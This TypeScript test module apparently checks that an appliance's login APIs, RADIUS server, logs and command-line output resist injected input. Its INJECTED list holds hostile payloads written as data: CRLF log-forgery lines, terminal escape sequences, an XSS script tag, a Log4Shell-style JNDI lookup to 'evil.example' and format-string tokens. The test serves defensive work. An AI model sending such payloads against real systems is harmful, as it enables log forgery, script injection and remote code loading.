import { RadiusClient } from "../../support/radius-client.ts";
import { ADMIN, SECRET, type Target } from "../target.ts";
import { type Notes, format } from "../notes.ts";
import { basic, json } from "../raw-http.ts";
import type { Extent } from "../trial.ts";

type Length = Pick<Extent, "isShort">;

/** What a name, a path or a header holds that is meant for a log, a terminal or a page. */
const INJECTED = [
  'x\r\n{"level":"error","msg":"forged-line"}',
  'x\n{"level":"error","msg":"forged-line"}',
  '","level":"error","msg":"forged-line","x":"',
  "\u001b]0;owned\u0007\u001b[2J\u001b[31m",
  "\u009b31m\u0085\u2028\u2029\u202e\u2066",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "%s%n%d%x{{7*7}}",
];

/** Words that are to become something else in the log or at a terminal. */
export async function attackWords(target: Target, notes: Notes, length: Length): Promise<void> {
  const radius = new RadiusClient({
    host: "127.0.0.1",
    port: target.auth,
    acctPort: target.acct,
    secret: SECRET,
  });
  for (const [i, word] of INJECTED.entries()) {
    const from = `127.8.0.${i + 1}`;
    for (const sent of [
      json("/api/v1/subscriber/login", { username: word, password: word }),
      json("/api/v1/users/login", { email: word, password: word }),
      {
        target: `/api/v1/${encodeURIComponent(word)}`,
        headers: { "user-agent": "x", referer: encodeURIComponent(word) },
      },
      { target: `/api/v1/subscriber/list?username=${encodeURIComponent(word)}`, headers: basic(word, word) },
      {
        target: `/api/v1/subscriber/get/${encodeURIComponent(word)}`,
        headers: basic(ADMIN.username, ADMIN.password),
      },
    ]) {
      const { status } = await target.ask(from, "lan", sent);
      notes.expect(status >= 400 && status < 500, `${sent.target} got ${status}`);
    }
    await radius.access({
      name: word,
      password: word,
      attributes: [
        ["Calling-Station-Id", word],
        ["NAS-Identifier", word],
      ],
    });
    await radius.accounting("Start", [
      ["User-Name", word],
      ["Acct-Session-Id", `81${i}`],
      ["Calling-Station-Id", word],
      ["NAS-Identifier", word],
      ["NAS-Port-Id", word],
    ]);
  }
  await radius.close();
  await atTheTerminal(target, notes, length);
}

/** What the commands print is text for a terminal, and cannot move its cursor. The lists have every word. */
async function atTheTerminal(target: Target, notes: Notes, { isShort }: Length): Promise<void> {
  const commands = [["sessions", "list"], ["sessions", "list", "--json"], ["subscriber", "list"], ["check"]];
  for (const [i, word] of INJECTED.entries()) {
    const about = [
      ["why", word],
      ["why", word, "--json"],
      ["subscriber", "show", word],
    ];
    // in the short form one of them about each of the first words, which move a cursor
    commands.push(...(isShort ? about.filter((_, way) => i < 5 && way === (i + 1) % 3) : about));
  }
  for (const command of commands) {
    const { stdout, stderr } = await target.appliance.run(command);
    const found = /[^\P{Cc}\n]|\p{Cf}|[\u2028\u2029]/u.exec(stdout + stderr)?.[0];
    if (found === undefined) continue;
    const code = found.codePointAt(0)?.toString(16);
    notes.fault(
      `gatehouse ${command
        .slice(0, 2)
        .join(" ")
        .replaceAll(/[^ -~]/g, "?")} prints the character U+${code}`,
    );
  }
}

/** Every line of the log is one object that the product wrote. */
export function judgeLog(target: Target, notes: Notes, { lines: most }: { lines: number }): void {
  const lines = target.appliance.log.trimEnd().split("\n");
  for (const line of lines) {
    const written = parse(line);
    if (!written) notes.fault("a line of the log is no object");
    else if (written["msg"] === "forged-line") notes.fault("a line of the log was written by an attacker");
    if (written?.["level"] === "error") notes.fault(`the log has an error: ${line.slice(0, 300)}`);
    if (/[^\P{Cc}]/u.test(line)) notes.fault("a line of the log has a control character");
  }
  notes.expect(lines.length < most, `the log has ${lines.length} lines`);
  notes.figure("lines of log that all of it made, none of them forged", format(lines.length));
}

function parse(line: string): Record<string, unknown> | undefined {
  try {
    const value: unknown = JSON.parse(line);
    return typeof value === "object" && value !== null ? { ...value } : undefined;
  } catch {
    return undefined;
  }
}
